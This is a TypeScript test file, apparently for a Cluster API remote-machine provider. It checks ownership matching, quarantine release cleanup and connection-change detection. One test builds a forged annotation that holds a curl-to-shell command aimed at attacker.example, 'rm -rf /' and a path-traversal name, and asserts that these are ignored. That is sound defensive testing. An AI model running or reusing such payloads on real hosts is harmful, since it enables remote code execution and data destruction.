import assert from "node:assert/strict";
import { describe, it } from "node:test";
import { quarantineOf } from "@capi-remote/shared";
import { connectionChanged } from "./connection.js";
import { ownerMismatch } from "./ownership.js";
import { cleanupKindOf, releaseCleanup } from "./quarantine.js";

describe("ownerMismatch: a Machine serves a RemoteMachine only if it names it back", () => {
  const rm = { kind: "RemoteMachine", metadata: { name: "innocent", namespace: "team-a", uid: "a1" } };
  const machine = (ref: Record<string, string> | undefined, uid = "m1", namespace = "team-a") => ({
    metadata: { name: "prod-cp-0", namespace, uid },
    spec: { clusterName: "prod", ...(ref ? { infrastructureRef: ref } : {}) } as never,
  });
  const group = "infrastructure.cluster.x-k8s.io";
  it("accepts the Machine whose infrastructureRef names it (v1beta2 and v1beta1 shapes)", () => {
    assert.equal(ownerMismatch(rm, machine({ apiGroup: group, kind: "RemoteMachine", name: "innocent" })), undefined);
    assert.equal(
      ownerMismatch(rm, machine({ apiVersion: `${group}/v1beta1`, kind: "RemoteMachine", name: "innocent" }), {
        name: "prod-cp-0",
        uid: "m1",
      }),
      undefined,
    );
  });
  const refused: [string, ReturnType<typeof machine>, { name: string; uid?: string } | undefined, RegExp][] = [
    [
      "another RemoteMachine's Machine (the review's H6 repro)",
      machine({ apiGroup: group, kind: "RemoteMachine", name: "prod-cp-0-real" }),
      undefined,
      /spec\.infrastructureRef names RemoteMachine prod-cp-0-real .*not this RemoteMachine/,
    ],
    [
      "same name, another kind",
      machine({ apiGroup: group, kind: "PooledRemoteMachine", name: "innocent" }),
      undefined,
      /names PooledRemoteMachine innocent/,
    ],
    [
      "same kind and name, another API group",
      machine({ apiGroup: "evil.example.com", kind: "RemoteMachine", name: "innocent" }),
      undefined,
      /\(evil\.example\.com\)/,
    ],
    ["no infrastructureRef", machine(undefined), undefined, /has no spec\.infrastructureRef/],
    [
      "an owner reference with another uid (a recreated Machine)",
      machine({ apiGroup: group, kind: "RemoteMachine", name: "innocent" }),
      { name: "prod-cp-0", uid: "old" },
      /uid old/,
    ],
    [
      "a Machine of another namespace",
      machine({ apiGroup: group, kind: "RemoteMachine", name: "innocent" }, "m1", "team-b"),
      undefined,
      /another namespace/,
    ],
  ];
  for (const [what, m, owner, re] of refused)
    it(`refuses ${what}`, () => assert.match(ownerMismatch(rm, m, owner) ?? "", re));
});

describe("releaseCleanup: a release never runs what the quarantine annotation says", () => {
  const forged = quarantineOf({
    "remote.infrastructure.cluster.x-k8s.io/quarantined": JSON.stringify({
      reason: "CleanupFailed",
      message: "x",
      commands: ["curl -s https://attacker.example/x | sh"],
      stateDir: "/etc/kubernetes",
      remoteMachine: "../../etc",
      cleanup: "rm -rf /",
    }),
  });
  assert.ok(forged);
  it("ignores the record's commands, state directory and unknown cleanup kinds (the review's H5 repro)", () => {
    const r = releaseCleanup("team-a", {}, forged);
    assert.deepEqual(r.commands, ["rm -f /run/cluster-api/bootstrap-success.complete"]);
    assert.equal(r.stateDir, "/var/lib/capi-remote/released");
  });
  it("uses the pool machine's own cleanUpCommands (locked while claimed) when it has them", () => {
    const r = releaseCleanup("team-a", { cleanUpCommands: ["kubeadm reset -f"] }, forged);
    assert.deepEqual(r.commands, ["kubeadm reset -f", "rm -f /run/cluster-api/bootstrap-success.complete"]);
  });
  it("picks defaults from the controller's table by kind, and the state dir from a valid name", () => {
    const q = { reason: "CleanupFailed", message: "", since: "", remoteMachine: "md-abc12", cleanup: "kubeadm" };
    const r = releaseCleanup("team-a", {}, q);
    assert.deepEqual(r.commands, ["kubeadm reset -f", "rm -f /run/cluster-api/bootstrap-success.complete"]);
    assert.equal(r.stateDir, "/var/lib/capi-remote/team-a.md-abc12");
  });
  it("maps bootstrap config kinds to cleanup kinds", () => {
    assert.equal(cleanupKindOf("KubeadmConfig"), "kubeadm");
    assert.equal(cleanupKindOf("K0sWorkerConfig"), "k0s");
    assert.equal(cleanupKindOf("K0sControllerConfig"), "k0s-controller");
    assert.equal(cleanupKindOf(undefined), "other");
  });
});

describe("connectionChanged: cleanup goes only to the host that was provisioned (M9)", () => {
  it("accepts the provisioned address and port", () => {
    assert.equal(connectionChanged({ address: "10.0.0.5", providerID: "remote-machine://10.0.0.5:22" }), undefined);
    assert.equal(
      connectionChanged({ address: "::1", port: 2222, providerID: "remote-machine://[::1]:2222" }),
      undefined,
    );
  });
  it("refuses an address or port changed after provisioning, naming the fields", () => {
    assert.match(
      connectionChanged({ address: "10.6.6.6", providerID: "remote-machine://10.0.0.5:22" }) ?? "",
      /spec\.address and spec\.port \(10\.6\.6\.6:22\) no longer match spec\.providerID remote-machine:\/\/10\.0\.0\.5:22/,
    );
    assert.ok(connectionChanged({ address: "10.0.0.5", port: 2200, providerID: "remote-machine://10.0.0.5:22" }));
  });
  it("refuses a claimant whose address differs from the pool machine it holds", () => {
    const pool = { name: "rack1-07", machine: { address: "10.0.1.7" } };
    assert.match(connectionChanged({ address: "10.6.6.6" }, pool) ?? "", /differ from pool machine rack1-07/);
    assert.equal(connectionChanged({ address: "10.0.1.7" }, pool), undefined);
  });
});
